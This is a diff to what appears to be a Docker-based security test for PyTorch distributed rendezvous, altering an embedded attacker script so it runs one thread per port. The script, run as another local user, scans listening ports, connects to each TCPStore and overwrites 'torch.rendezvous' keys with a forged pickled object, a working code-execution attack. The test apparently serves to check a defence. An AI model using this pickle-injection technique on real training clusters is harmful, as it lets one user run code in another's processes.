@@ -11,7 +11,7 @@ pytestmark = pytest.mark.docker
 # there ten times a second.
 ATTACKED = """
 cat > /stranger.py <<'PYTHON'
-import base64, contextlib, datetime, os, pickle, time
+import base64, contextlib, datetime, os, pickle, threading, time
 from pathlib import Path
 os.setgroups([]); os.setgid(12345); os.setuid(12345)
 import torch.distributed as dist
@@ -28,15 +28,25 @@ def listening():
                 yield int(fields[1].rpartition(":")[2], 16)
 
 forged = base64.b64encode(pickle.dumps(Called())).decode()
-while not Path("/tmp/over").exists():
-    for port in set(listening()):
+
+def attack(port):
+    while True:
         with contextlib.suppress(Exception):
             store = dist.TCPStore("127.0.0.1", port, timeout=datetime.timedelta(seconds=1))
             known = [name.removeprefix("/") for name in store.list_keys() if "torch.rendezvous" in name]
             for name in ("torch.rendezvous.imgkit", *known):
                 store.set(name, forged)
             Path("/tmp/forged").touch()
+        time.sleep(0.1)
+
+# Each port has a thread of its own: a listener of gloo accepts a store's client and never answers it.
+attacked = set()
+while not Path("/tmp/over").exists():
+    for port in set(listening()) - attacked:
+        attacked.add(port)
+        threading.Thread(target=attack, args=[port], daemon=True).start()
     time.sleep(0.1)
+os._exit(0)
 PYTHON
 cat > /program.py <<'PYTHON'
 import os, time
